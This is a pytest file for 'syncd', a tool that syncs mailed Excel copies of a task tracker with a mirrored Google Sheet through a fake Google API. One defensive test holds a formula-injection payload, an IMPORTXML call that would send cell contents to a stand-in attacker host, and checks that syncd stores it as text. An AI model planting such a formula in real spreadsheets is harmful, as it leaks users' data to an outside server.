"""A Google Sheet as a live copy of the tracker, end to end: `syncd sync` with a folder of mailed .xlsx
copies and a mirrored Google Sheet on the local stand-in (real google-api-python-client over HTTP).

Each test reads the canonical back with openpyxl and the sheet from the stand-in's own storage, and
checks what a person would see in each.
"""

from __future__ import annotations

import datetime as dt

import openpyxl
import pytest

from builders import copy_from_canonical, read_row_ids, read_values, set_value, write_copy
from fake_google import PRIYA, SERVICE_ACCOUNT
from fake_google.team import GoogleTeam, google, google_env  # noqa: F401 - fixtures
from scenario import COLUMNS, ROWS, at
from syncd.model import META_SHEET, ROW_ID_COLUMN

NOTE_ORANGE = {"red": 1.0, "green": 216 / 255, "blue": 168 / 255}


@pytest.fixture
def team(tmp_path, google):
    t = GoogleTeam(tmp_path / "team", google)
    write_copy(t.inbox / "tracker.xlsx", COLUMNS, ROWS, author="Maria", modified=at(1))
    t.sync()
    return t


def canonical_grid(team) -> list[list]:
    """The canonical's data sheet as the stand-in's grid looks: header, then each row, id column last."""
    records = read_values(team.canonical)
    ids = read_row_ids(team.canonical)
    header = list(records[0].keys())
    return [header + [ROW_ID_COLUMN]] + [[r[h] for h in header] + [rid] for r, rid in zip(records, ids)]


def sheet_grid(team) -> list[list]:
    rows = team.sheet_values()
    width = len(rows[0])
    return [row + [None] * (width - len(row)) for row in rows if any(v is not None for v in row)]


def test_first_sync_fills_an_empty_google_sheet_with_the_canonical(team):
    assert sheet_grid(team) == canonical_grid(team)
    tasks = team.book.tab("Tasks")
    assert tasks.hidden_cols == {len(COLUMNS)}  # the syncd id column, hidden as in the .xlsx
    assert team.book.tab(META_SHEET).hidden
    meta = dict((row + [None])[:2] for row in team.sheet_values(META_SHEET))
    assert meta["generation"] == 1 and meta["tracker"] == "tasks"
    assert {t.title for t in team.book.tabs} >= {"Tasks", "Conflicts", "Archive", META_SHEET, "Sheet1"}
    # dates are real dates in Google too, not text
    due = team.cell("Tasks", "T-1", "Due")
    assert due.kind == "number" and due.fmt["numberFormat"]["type"] == "DATE"


def test_excel_copy_and_google_edit_are_merged_and_mirrored_back_cell_for_cell(team, google):
    google.edit("S1", "Tasks", team.address("T-2", "Status"), "Done")
    # Priya also adds a task at the bottom of the Google Sheet (no syncd id: syncd gives it one)
    google.edit("S1", "Tasks", "A8", "T-7")
    google.edit("S1", "Tasks", "B8", "Order swag for the launch")
    google.edit("S1", "Tasks", "E8", "2026-07-20")
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-1", "Owner", "Bob"))
    report = team.sync_json()

    assert report["problems"] == [] and report["conflicts"] == []
    rows = team.by_id()
    assert rows["T-2"]["Status"] == "Done"  # from Google
    assert rows["T-1"]["Owner"] == "Bob"  # from the mailed copy
    assert rows["T-7"]["Task"] == "Order swag for the launch" and rows["T-7"]["Due"] == dt.date(2026, 7, 20)
    taken = {c["file"]: c for c in report["copies"] if c["status"] == "taken"}
    assert taken['Google Sheet "Campaign tracker"']["author"] == PRIYA.name
    # the Google Sheet holds exactly the canonical, ids included, so both are the same single version
    assert sheet_grid(team) == canonical_grid(team)
    assert all(team.sheet_ids())
    meta = dict((row + [None])[:2] for row in team.sheet_values(META_SHEET))
    assert meta["generation"] == report["generation"] == 2


def test_unchanged_sheet_costs_one_request_per_poll_and_our_own_write_is_not_a_copy(team, google):
    # a mailed copy changes the canonical, so syncd writes the Google Sheet
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-3", "Status", "In progress"))
    written = team.sync_json()
    assert written["generation"] == 2
    assert team.cell("Tasks", "T-3", "Status").value == "In progress"

    for _ in range(3):
        mark = google.mark()
        report = team.sync_json()
        calls = google.calls(mark, tokens=True)
        assert [c.op for c in calls] == ["drive files.get"]  # one small request, no token, no read
        assert calls[0].query["fields"] == ["name,version,modifiedTime,lastModifyingUser(displayName,me)"]
        assert report["generation"] == 2 and not report["written"]
        sheet = next(c for c in report["copies"] if c["source"] == "Google Sheet S1")
        assert sheet["status"] == "seen"


def test_a_one_cell_change_is_one_small_batch(team, google):
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-5", "Budget", 950))
    mark = google.mark()
    team.sync()
    writes = [c for c in google.calls(mark) if c.method != "GET"]
    assert [c.op for c in writes] == ["sheets spreadsheets.batchUpdate"]
    requests = writes[0].body["requests"]
    cells = [(r["updateCells"]["start"]["rowIndex"], r["updateCells"]["start"]["columnIndex"], len(r["updateCells"]["rows"]))
             for r in requests if "updateCells" in r]
    tasks, meta = team.book.tab("Tasks").sheet_id, team.book.tab(META_SHEET).sheet_id
    sheets = {r["updateCells"]["start"]["sheetId"] for r in requests}
    assert sheets == {tasks, meta}
    budget = team.address("T-5", "Budget")
    assert (int(budget[1:]) - 1, ord(budget[0]) - 65, 1) in cells
    # the data tab gets exactly one cell; the hidden tab its generation and time stamp
    data_cells = [r for r in requests if r["updateCells"]["start"]["sheetId"] == tasks]
    assert len(data_cells) == 1 and data_cells[0]["updateCells"]["rows"] == [{"values": [{"userEnteredValue": {"numberValue": 950}}]}]
    assert team.cell("Tasks", "T-5", "Budget").value == 950


def test_text_that_looks_like_a_formula_lands_in_google_as_text(team, google):
    evil = '=IMPORTXML("http://attacker.example/?q="&A1, "//a")'

    def type_as_text(ws):  # what Excel stores for a cell typed as '=IMPORTXML(... (text, not a formula)
        set_value(ws, "T-4", "Task", evil)
        ws.cell(cell_row(team, "T-4"), 2).data_type = "s"

    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3), edit=type_as_text)
    team.sync()
    assert team.by_id()["T-4"]["Task"] == evil
    cell = team.cell("Tasks", "T-4", "Task")
    assert cell.kind == "string" and cell.value == evil and cell.how == "stringValue"
    for call in google.calls():
        assert "USER_ENTERED" not in str(call.query) + str(call.body)
        assert "formulaValue" not in str(call.body)
    assert openpyxl.load_workbook(team.canonical)["Tasks"][cell_row(team, "T-4")][1].data_type == "s"


def cell_row(team, task_id: str) -> int:
    ws = openpyxl.load_workbook(team.canonical)["Tasks"]
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == task_id)


def test_rate_limited_requests_are_retried_and_the_sync_completes(team, google):
    google.edit("S1", "Tasks", team.address("T-6", "Owner"), "Priya")
    google.fail_next(1, 429)
    google.fail_next(1, 503)
    mark = google.mark()
    report = team.sync_json()
    assert report["problems"] == []
    assert team.by_id()["T-6"]["Owner"] == "Priya"
    statuses = [(c.op, c.status) for c in google.calls(mark)]
    assert statuses[:3] == [("drive files.get", 429), ("drive files.get", 503), ("drive files.get", 200)]


def test_no_permission_is_reported_once_clearly_and_the_excel_side_still_syncs(tmp_path, google):
    team = GoogleTeam(tmp_path / "team", google, share={})  # nobody shared the sheet with syncd
    write_copy(team.inbox / "tracker.xlsx", COLUMNS, ROWS, author="Maria", modified=at(1))
    team.sync()
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-1", "Status", "Done"))
    google.fail_next(1, 403)  # and Google answers the next request with a permission error
    result = team.sync()
    assert team.by_id()["T-1"]["Status"] == "Done"
    lines = [line for line in result.output.splitlines() if SERVICE_ACCOUNT in line]
    assert len(lines) == 1
    assert "share the sheet with syncd@project.iam.gserviceaccount.com as Editor" in lines[0]
    report = team.sync_json()
    assert len(report["problems"]) == 1 and SERVICE_ACCOUNT in report["problems"][0]


def test_an_edit_made_in_google_while_syncd_merges_is_merged_not_overwritten(team, google):
    google.edit("S1", "Tasks", team.address("T-2", "Owner"), "Priya")
    # while syncd merges that edit, Cleo changes another cell in the browser
    google.after("sheets spreadsheets.get", lambda: None)  # the tab list
    google.after("sheets spreadsheets.get", lambda: google.edit(
        "S1", "Tasks", team.address("T-3", "Status"), "Blocked", by=PRIYA))
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-4", "Owner", "Ann"))
    mark = google.mark()
    report = team.sync_json()
    ops = [c.op for c in google.calls(mark)]
    # the write planned from the first read was not sent: the sheet was read again, then written once
    assert ops.count("sheets spreadsheets.batchUpdate") == 1 and ops.count("sheets spreadsheets.get") == 4
    rows = team.by_id()
    assert rows["T-2"]["Owner"] == "Priya" and rows["T-3"]["Status"] == "Blocked" and rows["T-4"]["Owner"] == "Ann"
    assert sheet_grid(team) == canonical_grid(team)
    assert report["problems"] == []


def test_rows_deleted_inserted_and_moved_in_google_are_mirrored_by_row(team, google):
    tasks = team.book.tab("Tasks").sheet_id
    t5 = int(team.address("T-5", "ID")[1:]) - 1
    # Priya deletes T-5 and inserts a new task in the middle of the sheet
    google.person_requests("S1", [
        {"deleteDimension": {"range": {"sheetId": tasks, "dimension": "ROWS", "startIndex": t5, "endIndex": t5 + 1}}},
        {"insertDimension": {"range": {"sheetId": tasks, "dimension": "ROWS", "startIndex": 2, "endIndex": 3},
                             "inheritFromBefore": True}},
    ])
    google.edit("S1", "Tasks", "A3", "T-8")
    google.edit("S1", "Tasks", "B3", "Brief the agency")
    report = team.sync_json()
    rows = team.by_id()
    assert "T-5" not in rows and rows["T-8"]["Task"] == "Brief the agency"
    assert report["archived"] == 1
    assert sheet_grid(team) == canonical_grid(team)
    archive = team.sheet_values("Archive")
    assert any("T-5" in row for row in archive[1:])


def test_a_clash_is_noted_and_highlighted_in_google_and_a_persons_own_note_is_kept(tmp_path, google):
    team = GoogleTeam(tmp_path / "team", google, policy="flag")
    write_copy(team.inbox / "tracker.xlsx", COLUMNS, ROWS, author="Maria", modified=at(1))
    team.sync()
    status = team.address("T-2", "Status")
    row, col = int(status[1:]) - 1, ord(status[0]) - 65
    tasks = team.book.tab("Tasks").sheet_id
    google.person_requests("S1", [{"updateCells": {
        "start": {"sheetId": tasks, "rowIndex": row, "columnIndex": col},
        "rows": [{"values": [{"note": "Waiting for the venue to call back"}]}], "fields": "note"}}])
    google.edit("S1", "Tasks", status, "Cancelled")
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-2", "Status", "Done"))
    report = team.sync_json()
    assert len(report["conflicts"]) == 1
    cell = team.cell("Tasks", "T-2", "Status")
    assert cell.note.startswith("syncd:\n") and "Waiting for the venue to call back" in cell.note
    assert cell.fmt["backgroundColor"] == pytest.approx(NOTE_ORANGE)
    conflicts = team.sheet_values("Conflicts")
    assert conflicts[0][0] == "Status" and any("T-2" in str(v) or "Book venue" in str(v) for v in conflicts[1])
    comment = openpyxl.load_workbook(team.canonical)["Tasks"][status].comment
    assert comment is not None
    # settling it (typing the value into the canonical) clears syncd's note and colour in Google too,
    # and keeps Priya's own note
    wb = openpyxl.load_workbook(team.canonical)
    wb["Tasks"].cell(cell_row(team, "T-2"), COLUMNS.index("Status") + 1).value = "Done"
    wb.save(team.canonical)
    team.sync()
    assert team.by_id()["T-2"]["Status"] == "Done"
    cell = team.cell("Tasks", "T-2", "Status")
    assert cell.note == "Waiting for the venue to call back"
    assert "backgroundColor" not in cell.fmt


def test_a_team_starting_from_its_google_sheet_gets_a_canonical_and_ids_in_the_sheet(tmp_path, google):
    tabs = {"Notes": [["Kick-off on Monday"]],
            "Tasks": [["Marketing tracker Q3"], [], ["ID", "Task", "Owner", "Due", "Budget", "Approved"],
                      ["T-1", "Draft Q3 newsletter", "Ann", "2026-07-01", 500, "TRUE"],
                      ["T-2", "Book venue", "Bob", "2026-07-15", "12000.5", "FALSE"], ["T-3"]]}
    team = GoogleTeam(tmp_path / "team", google, tabs=tabs)
    report = team.sync_json()
    assert report["written"] and report["rows"] == 3
    assert team.by_id()["T-1"] == {"ID": "T-1", "Task": "Draft Q3 newsletter", "Owner": "Ann",
                                   "Due": dt.date(2026, 7, 1), "Budget": 500, "Approved": True}
    assert team.by_id()["T-2"]["Budget"] == 12000.5
    # the sheet keeps its title line and layout; each task now carries its id
    values = team.sheet_values()
    assert values[0] == ["Marketing tracker Q3"] and values[2][-1] == ROW_ID_COLUMN
    assert [row[-1] for row in values[3:]] == read_row_ids(team.canonical)
    assert team.book.values("Notes") == [["Kick-off on Monday"]]
    mark = google.mark()
    assert team.sync_json()["generation"] == 1
    assert len(google.calls(mark)) == 1


def test_secrets_never_appear_in_logs_messages_outputs_or_files(tmp_path, google, caplog):
    import logging
    import zipfile

    caplog.set_level(logging.DEBUG)
    team = GoogleTeam(tmp_path / "team", google)
    write_copy(team.inbox / "tracker.xlsx", COLUMNS, ROWS, author="Maria", modified=at(1))
    outputs = [team.sync("-v").output]
    google.edit("S1", "Tasks", team.address("T-2", "Status"), "Done")
    outputs.append(team.sync("--json").output)
    google.fail_next(1, 403)
    outputs.append(team.sync().output)
    google.fail_next(6, 500)
    outputs.append(team.sync("--json").output)
    google._tokens.clear()  # the access token is revoked ...
    google._sa_keys.clear()  # ... and so is the key: Google refuses to issue a new one
    refused = team.sync("--json").output
    assert "Google did not accept syncd's credentials" in refused
    outputs.append(refused)
    from click.testing import CliRunner
    from syncd.cli import main

    outputs.append(CliRunner().invoke(main, ["status", "-c", str(team.config)]).output)
    outputs.append(caplog.text)
    with zipfile.ZipFile(team.canonical) as zf:
        outputs += [zf.read(name).decode("utf-8", "replace") for name in zf.namelist()]
    for path in (team.root / ".syncd").rglob("*"):
        if path.is_file():
            outputs.append(path.read_bytes().decode("latin-1"))
    for path in (tmp_path / "xdg-state").rglob("*"):
        outputs.append(path.read_text() if path.is_file() else "")
    outputs += [str(team.sheet_values(t.title)) for t in team.book.tabs]
    secrets = [s for s in google.issued if len(s) > 12]
    assert len(secrets) >= 3  # the key, its id, and at least two access tokens
    for text in outputs:
        for secret in secrets:
            assert secret not in text


def test_a_sheet_shared_read_only_is_read_and_the_summary_asks_for_editor_access(tmp_path, google):
    team = GoogleTeam(tmp_path / "team", google, share={SERVICE_ACCOUNT: "reader"},
                      tabs={"Tasks": [COLUMNS] + [[v.isoformat() if isinstance(v, dt.date) else v for v in r] for r in ROWS]})
    report = team.sync_json()
    assert report["written"] and team.by_id()["T-1"]["Task"] == "Draft Q3 newsletter"
    [problem] = report["problems"]
    assert problem.startswith('syncd may not change the Google Sheet "Campaign tracker": share the sheet with '
                              f"{SERVICE_ACCOUNT} as Editor")


def test_typing_the_right_value_in_the_google_sheet_settles_a_conflict(tmp_path, google):
    """The mirrored sheet is the canonical too: settling a clash there works like settling it in Excel."""
    team = GoogleTeam(tmp_path / "team", google)
    write_copy(team.inbox / "tracker.xlsx", COLUMNS, ROWS, author="Maria", modified=at(1))
    team.sync()
    copy_from_canonical(team.canonical, team.inbox / "ann.xlsx", author="Ann", modified=at(3),
                        edit=lambda ws: set_value(ws, "T-2", "Status", "Done"))
    copy_from_canonical(team.canonical, team.inbox / "bob.xlsx", author="Bob", modified=at(2),
                        edit=lambda ws: set_value(ws, "T-2", "Status", "Cancelled"))
    assert len(team.sync_json()["conflicts"]) == 1
    google.edit("S1", "Tasks", team.address("T-2", "Status"), "On hold")
    report = team.sync_json()
    assert report["resolved"] == 1
    assert team.by_id()["T-2"]["Status"] == "On hold"
    assert openpyxl.load_workbook(team.canonical)["Conflicts"]["A2"].value.startswith("resolved")
    assert "backgroundColor" not in team.cell("Tasks", "T-2", "Status").fmt
